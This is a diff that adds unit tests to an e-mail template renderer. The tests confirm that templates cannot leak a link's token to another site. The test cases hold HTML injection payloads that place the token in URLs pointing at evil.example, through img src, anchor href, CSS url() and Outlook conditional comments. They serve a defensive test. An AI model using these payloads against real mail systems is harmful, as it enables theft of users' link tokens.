@@ -59,3 +59,23 @@ describe('R35 variables of e-mails', () => {
     ).toBe('Hello A Bcc: b@example.com');
   });
 });
+
+describe('R35 no template can send the token of a link to another site', () => {
+  it.each([
+    '<a href="https://evil.example/?t=>{{link}}<">x</a>',
+    '<img alt=">" src="https://evil.example/?t=>{{link}}<">',
+    '<style>a { background: url("https://evil.example/?</b>{{link}}<b") }</style>',
+    '<title>{{link}}</title>',
+    '<!-- >{{link}}< -->',
+    '<p title="a>{{link}}<b">x</p>',
+    '<!--[if mso]><p title="--><img src=https://evil.example/?>{{link}}<">x</p><![endif]-->',
+    '<a href="https://evil.example/?a=<b>{{link}}</b>',
+  ])('%s', (template) => {
+    expect(renderBody(template, variables)).not.toContain(variables.link);
+  });
+
+  it('parts for Outlook have their links', () => {
+    const button = (link: string) => `<!--[if mso]><v:roundrect href="${link}">x</v:roundrect><![endif]-->`;
+    expect(renderBody(button('{{link}}'), variables)).toBe(button(variables.link));
+  });
+});
